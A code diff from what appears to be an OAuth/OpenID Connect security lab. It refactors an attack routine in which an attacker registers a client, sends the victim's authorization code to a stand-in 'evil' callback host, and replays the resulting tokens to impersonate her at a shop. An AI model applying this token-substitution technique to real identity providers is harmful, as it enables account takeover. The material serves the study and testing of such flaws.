@@ -1,9 +1,9 @@
 import type { Answer, Place } from '../engine/lab.ts'
 import { orderPhoto } from '../engine/order-photo.ts'
-import { authorizationUrl, newVerifier, requestTokens, type Tokens } from '../engine/own-client.ts'
+import { authorizationUrl, newVerifier, registerWinAPrint, requestTokens, type Tokens } from '../engine/own-client.ts'
 
-/** The app with which Mallory's site asks who somebody is, as any site may. */
-const APP = { client_name: 'Win A Print', token_endpoint_auth_method: 'none', scope: 'openid profile' }
+/** What Mallory's site asks: who somebody is, as any site may. */
+const scope = 'openid profile'
 
 /** Alice tells Win A Print who she is, and no more. Mallory takes what Win A Print got for it, and is Alice at the shop. */
 export async function attack(place: Place): Promise<Answer> {
@@ -44,18 +44,14 @@ async function beCustomer(place: Place): Promise<void> {
 
 async function tokensOfWinAPrint(place: Place): Promise<Tokens> {
   const redirect_uri = `${place.evil}/callback`
-  const body = JSON.stringify({ ...APP, redirect_uris: [redirect_uri] })
-  const headers = { 'Content-Type': 'application/json' }
-  const { client_id } = (await (await fetch(`${place.auth}/register`, { method: 'POST', headers, body })).json()) as App
+  const client_id = await registerWinAPrint(place, redirect_uri, scope)
   const { code_verifier, code_challenge } = newVerifier()
-  const question = authorizationUrl(place, { client_id, redirect_uri, scope: APP.scope }, code_challenge)
+  const question = authorizationUrl(place, { client_id, redirect_uri, scope }, code_challenge)
   await place.person('alice').walk(`${question}&nonce=of-win-a-print`)
   const code = new URL(place.inbox.at(-1)?.path ?? '', place.evil).searchParams.get('code') ?? ''
   const request = { grant_type: 'authorization_code', client_id, redirect_uri, code, code_verifier }
   return (await requestTokens(place, request)).tokens
 }
-
-type App = { client_id: string }
 
 async function bring({ shop, person }: Place, { id_token = '', access_token = '' }: Tokens): Promise<Answer> {
   const mallory = person('mallory')
